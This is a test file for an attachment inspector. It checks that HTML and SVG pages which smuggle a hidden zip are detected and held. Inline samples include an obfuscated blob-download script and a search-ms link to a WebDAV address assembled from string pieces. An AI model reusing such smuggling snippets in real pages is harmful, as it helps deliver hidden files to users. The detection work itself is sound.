import { inspect } from 'sekisho'
import { describe, expect, test } from 'vitest'
import { damaged } from './fixtures/carrier-mutate.ts'
import { CARGO, HONEST, PAGES, SMUGGLING_SVG } from './fixtures/carrier-pages.ts'
import { cpuMs } from './fixtures/cpu-ms.ts'
import { allFacts, takeApart } from './fixtures/office-open.ts'

const bytesOf = (markup: string | Buffer): Buffer => Buffer.from(markup)

describe('a page that puts a file together', () => {
  test.each(PAGES)('from $name: the file is taken out and walked', ({ markup }) => {
    const { parts } = takeApart(bytesOf(markup), 'page.html')
    const zip = parts.find(({ kind, content }) => kind === 'zip' && content.equals(CARGO))
    expect(zip?.role).toBe('hidden')
    expect(parts.find(({ name }) => name === 'note.txt')?.content.toString()).toMatch(/^only words/)
  })

  test('is held for it', async () => {
    const { findings, verdict } = await inspect(bytesOf(PAGES[0]?.markup ?? ''), { name: 'page.html' })
    expect(verdict.decision).toMatch(/hold|refuse/)
    expect(findings.map(({ id }) => id)).toContain('attachment/page-with-hidden-file')
  })

  test('may be a picture in SVG', async () => {
    const { findings, message } = await inspect(Buffer.from(SMUGGLING_SVG), { name: 'picture.svg' })
    expect(message.parts.map(({ kind }) => kind)).toEqual(['svg', 'zip', 'text'])
    expect(findings.map(({ id }) => id)).toContain('attachment/page-with-hidden-file')
  })

  test('may conceal what it saves', () => {
    const noise = Buffer.from(Array.from({ length: 9_000 }, (_, at) => (at * at * 31 + 7) % 251)).toString('base64')
    const script = `var k="x";var d=open2("${noise}",k);var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download="a";a.click()`
    const facts = allFacts(takeApart(Buffer.from(`<html><script>${script}</script></html>`)), 'code')
    expect(facts.map(({ word }) => word)).toContain('concealed data')
  })

  test('and opens addresses that it put together', () => {
    const script = `var s = "search-" + "ms:query=x&crumb=location:" + "//example.com/dav"; location.href = s; fetch("https://exa" + "mple.com/a") // data:`
    const message = takeApart(Buffer.from(`<html><script>${script}</script></html>`))
    expect(allFacts(message, 'link').map(({ url }) => url)).toContain(
      'search-ms:query=x&crumb=location://example.com/dav',
    )
    expect(allFacts(message, 'url').map(({ url }) => url)).toContain('https://example.com/a')
  })
})

describe('a page that carries data honestly', () => {
  test.each(HONEST)('$name: nothing is made of it', ({ markup }) => {
    const message = takeApart(Buffer.from(markup), 'page.html')
    expect(message.parts).toHaveLength(1)
    expect(allFacts(message, 'code').filter(({ does }) => does === 'drop' || does === 'run')).toEqual([])
  })
})

test('damaged pages are survived', () => {
  for (const markup of [PAGES[3]?.markup, PAGES[5]?.markup, PAGES[16]?.markup, SMUGGLING_SVG]) {
    for (const broken of damaged(bytesOf(markup ?? ''), 80)) {
      const flaws = takeApart(broken, 'page.html').parts.flatMap((part) => part.flaws)
      expect(flaws.filter(({ code }) => code === 'unpack/crashed')).toEqual([])
    }
  }
})

test('a page of nothing but openings costs a bounded time', () => {
  for (const piece of ['<script>', '(', '["a"+', 'data:a,', 'a.b=', '"\\', '/', '<script>a=[1,']) {
    const started = cpuMs()
    takeApart(Buffer.from(`<html><script>atob${piece.repeat(2 ** 17 / piece.length)}`), 'page.html')
    expect(cpuMs() - started, piece).toBeLessThan(3_000)
  }
})

test('texts that grow without end cost a bounded time', () => {
  const steps = Array.from({ length: 40 }, (_, at) => at + 1)
  const doubling = steps.map((at) => `x${at}=x${at - 1}+x${at - 1};`).join('')
  const replacing = steps.map((at) => `x${at}=x${at - 1}.replace("a","aaaaaaaaaaaaaaaa");`).join('')
  for (const script of [doubling, replacing]) {
    const started = cpuMs()
    takeApart(Buffer.from(`<html><script>atob;x0="${'a'.repeat(1_000)}";${script}</script>`), 'page.html')
    expect(cpuMs() - started).toBeLessThan(8_000)
  }
})
